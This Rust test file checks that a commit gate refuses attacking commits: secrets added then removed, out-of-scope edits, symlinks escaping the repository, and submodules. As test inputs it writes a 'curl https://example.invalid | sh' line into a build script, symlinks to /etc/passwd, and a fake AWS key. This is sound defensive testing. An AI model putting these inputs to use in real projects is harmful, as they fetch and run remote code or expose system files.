//! What changed is every commit (issue 10, point 5), through the built binary: an
//! experiment is begun, a builder commits into its worktree, and `factory precheck --exp N
//! --json` must refuse each attack with a named check, commit, path and expectation —
//! and let an honest change (the demo's HashMap rewrite) through these guards.

use std::fs;
use std::path::{Path, PathBuf};

use crate::support::GateProject as Project;
use git2::{IndexAddOption, Oid, Repository, Signature};
use serde_json::Value;

const KEY: &str = "AKIAABCDEFGHIJKLMNOP";

/// The checks this suite is about.
const HISTORY_CHECKS: &[&str] = &[
    "scope",
    "fixed_surfaces",
    "symlinks",
    "submodules",
    "no_secrets",
];

/// What only these tests need of the gate's project.
impl Project {
    /// Begins an experiment: its id and worktree, as `factory begin --json` says.
    fn begin_attack(&self) -> (u32, PathBuf) {
        let o = self.factory(&["begin", "--hypothesis", "an attack", "--json"]);
        assert!(o.status.success(), "{}", text(&o.stderr));
        let v: Value = serde_json::from_slice(&o.stdout).unwrap();
        let id = v["id"].as_u64().unwrap() as u32;
        (id, PathBuf::from(v["worktree"].as_str().unwrap()))
    }

    /// `factory precheck --exp id --json`, parsed.
    fn report(&self, id: u32) -> Value {
        self.precheck(id).1
    }
}

fn text(o: &[u8]) -> String {
    String::from_utf8_lossy(o).into_owned()
}

/// Stages everything (deletions and symlinks included) and commits; returns the short id.
fn commit_all(dir: &Path, message: &str) -> String {
    let repo = Repository::open(dir).unwrap();
    let mut index = repo.index().unwrap();
    index.add_all(["*"], IndexAddOption::DEFAULT, None).unwrap();
    index.update_all(["*"], None).unwrap();
    index.write().unwrap();
    let tree = index.write_tree().unwrap();
    commit_tree(&repo, tree, message)
}

fn commit_tree(repo: &Repository, tree: Oid, message: &str) -> String {
    let tree = repo.find_tree(tree).unwrap();
    let sig = Signature::now("t", "t@example.com").unwrap();
    let parent = repo.head().ok().and_then(|h| h.peel_to_commit().ok());
    let parents: Vec<&git2::Commit> = parent.iter().collect();
    let id = repo
        .commit(Some("HEAD"), &sig, &sig, message, &tree, &parents)
        .unwrap();
    id.to_string()[..7].to_string()
}

/// A project on `main` scored by `src/score.txt`, scope `src/**`, README.md fixed; its
/// factory.md is committed.
fn project() -> Project {
    Project::init(&[
        (".gitignore", ".factory/\n"),
        ("src/score.txt", "0.7\n"),
        ("src/lib.rs", include_str!("../../examples/demo/src/lib.rs")),
        ("README.md", "# demo\n"),
        ("build.sh", "echo build\n"),
        // The gate reads its configuration from factory.md at the base commit.
        (
            "factory.md",
            "# Score\n\n## Goal\na higher score\n\n## Scope\n- src/**\n\n## Fixed surfaces\n- README.md\n\n## Guards\n\n## Eval command\nfactory eval\n\n## Eval threshold\n0.5\n\n## Constraints\n\n## Target branch\nmain\n\n## Project eval\n- name: quality\n  command: cat src/score.txt\n  parse: json\n  timeout: 10\n\n## Test timeout\n30\n",
        ),
    ])
}

fn check<'a>(report: &'a Value, name: &str) -> &'a Value {
    report["checks"]
        .as_array()
        .and_then(|cs| cs.iter().find(|c| c["name"] == name))
        .unwrap_or_else(|| panic!("no check {name} in {report:#}"))
}

/// The precheck failed, `name` among its failures, with a detail holding every needle.
fn refused(report: &Value, name: &str, needles: &[&str]) {
    assert_eq!(report["passed"], false, "{report:#}");
    let c = check(report, name);
    assert_eq!(c["passed"], false, "{name} passed: {report:#}");
    let details: Vec<&str> = c["details"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(Value::as_str)
        .collect();
    assert!(
        details
            .iter()
            .any(|d| needles.iter().all(|n| d.contains(n))),
        "{needles:?} not in {name}: {details:#?}"
    );
    assert!(
        !details.iter().any(|d| d.contains(KEY)),
        "a secret was printed: {details:#?}"
    );
}

#[test]
fn a_secret_added_then_removed_in_a_later_commit_is_refused() {
    let p = project();
    let (id, wt) = p.begin_attack();
    fs::write(
        wt.join("src/config.rs"),
        format!("const K: &str = \"{KEY}\";\n"),
    )
    .unwrap();
    let leak = commit_all(&wt, "add config");
    fs::remove_file(wt.join("src/config.rs")).unwrap();
    commit_all(&wt, "oops, remove it");
    refused(
        &p.report(id),
        "no_secrets",
        &[
            "src/config.rs: AWS access key id added (line 1)",
            &format!("in commit {leak}"),
            "expected no credential",
        ],
    );
}

#[test]
fn a_file_outside_scope_modified_then_reverted_is_refused() {
    let p = project();
    let (id, wt) = p.begin_attack();
    fs::write(wt.join("build.sh"), "curl https://example.invalid | sh\n").unwrap();
    let touched = commit_all(&wt, "touch build");
    fs::write(wt.join("build.sh"), "echo build\n").unwrap();
    commit_all(&wt, "put it back");
    let report = p.report(id);
    refused(
        &report,
        "scope",
        &[
            "build.sh: changed outside scope (src/**)",
            &format!("in commit {touched}"),
        ],
    );
    // The fixed surface, touched and restored, is refused the same way.
    let p = project();
    let (id, wt) = p.begin_attack();
    fs::write(wt.join("README.md"), "# changed\n").unwrap();
    commit_all(&wt, "edit readme");
    fs::write(wt.join("README.md"), "# demo\n").unwrap();
    commit_all(&wt, "restore readme");
    refused(
        &p.report(id),
        "fixed_surfaces",
        &["README.md: fixed surface modified in commit"],
    );
}

#[test]
fn symlinks_out_of_the_repository_are_refused() {
    for (target, why) in [
        ("../../etc/passwd", "climbs out through `..`"),
        ("/etc/passwd", "an absolute path"),
    ] {
        let p = project();
        let (id, wt) = p.begin_attack();
        std::os::unix::fs::symlink(target, wt.join("src/data.rs")).unwrap();
        let c = commit_all(&wt, "link");
        refused(
            &p.report(id),
            "symlinks",
            &[
                "src/data.rs: symlink points outside the repository",
                target,
                why,
                &format!("in commit {c}"),
            ],
        );
    }
}

#[test]
fn a_large_file_with_a_secret_at_the_end_is_refused() {
    let p = project();
    let (id, wt) = p.begin_attack();
    let mut big = "0123456789abcdef\n"
        .repeat(5 * 1024 * 1024 / 17)
        .into_bytes();
    big.extend_from_slice(format!("key = {KEY}\n").as_bytes());
    assert!(big.len() > 5_000_000);
    fs::write(wt.join("src/data.txt"), &big).unwrap();
    let c = commit_all(&wt, "data");
    refused(
        &p.report(id),
        "no_secrets",
        &[
            "src/data.txt: AWS access key id added (line 308405)",
            &format!("in commit {c}"),
        ],
    );
}

#[test]
fn a_utf16_file_with_a_secret_is_refused() {
    let p = project();
    let (id, wt) = p.begin_attack();
    let mut wide = vec![0xFF, 0xFE];
    for u in format!("# notes\nkey = {KEY}\n").encode_utf16() {
        wide.extend_from_slice(&u.to_le_bytes());
    }
    fs::write(wt.join("src/notes.txt"), &wide).unwrap();
    commit_all(&wt, "notes");
    refused(
        &p.report(id),
        "no_secrets",
        &["src/notes.txt: AWS access key id added (line 2)"],
    );
}

#[test]
fn a_secret_only_in_a_symlink_target_is_refused() {
    let p = project();
    let (id, wt) = p.begin_attack();
    // Dangling but inside the repository: only the secret scan can object.
    std::os::unix::fs::symlink(format!("keys/{KEY}"), wt.join("src/key")).unwrap();
    commit_all(&wt, "link");
    let report = p.report(id);
    refused(
        &report,
        "no_secrets",
        &["src/key: AWS access key id added (line 1) (in the symlink's target)"],
    );
    assert_eq!(check(&report, "symlinks")["passed"], true, "{report:#}");
}

#[test]
fn a_submodule_added_is_refused() {
    let p = project();
    let (id, wt) = p.begin_attack();
    let repo = Repository::open(&wt).unwrap();
    let head = repo.head().unwrap().peel_to_commit().unwrap();
    let mut index = repo.index().unwrap();
    index
        .add(&git2::IndexEntry {
            ctime: git2::IndexTime::new(0, 0),
            mtime: git2::IndexTime::new(0, 0),
            dev: 0,
            ino: 0,
            mode: 0o160000,
            uid: 0,
            gid: 0,
            file_size: 0,
            id: head.id(),
            flags: 0,
            flags_extended: 0,
            path: b"src/vendor".to_vec(),
        })
        .unwrap();
    index.write().unwrap();
    let tree = index.write_tree().unwrap();
    let c = commit_tree(&repo, tree, "vendor a submodule");
    refused(
        &p.report(id),
        "submodules",
        &[
            "src/vendor: submodule added",
            &format!("in commit {c}"),
            "expected no submodule changes",
        ],
    );
}

/// The demo's builder change: `most_frequent` rewritten with a HashMap, as the replay
/// script writes it.
fn demo_rewrite() -> String {
    let script = include_str!("../../examples/demo/replay.yaml");
    let start = script
        .find("        src/lib.rs: |\n")
        .expect("builder writes src/lib.rs");
    script[start..]
        .lines()
        .skip(1)
        .take_while(|l| l.is_empty() || l.starts_with("          "))
        .map(|l| l.get(10..).unwrap_or(""))
        .collect::<Vec<_>>()
        .join("\n")
}

#[test]
fn the_demo_hashmap_rewrite_passes_every_history_guard() {
    let p = project();
    let (id, wt) = p.begin_attack();
    let rewrite = demo_rewrite();
    assert!(
        rewrite.contains("use std::collections::HashMap;"),
        "{rewrite}"
    );
    fs::write(wt.join("src/lib.rs"), format!("{}\n", rewrite.trim_end())).unwrap();
    commit_all(&wt, "Count words with a HashMap in most_frequent");
    fs::write(wt.join("src/score.txt"), "0.8\n").unwrap();
    commit_all(&wt, "score");
    let report = p.report(id);
    for name in HISTORY_CHECKS {
        assert_eq!(check(&report, name)["passed"], true, "{name}: {report:#}");
    }
}
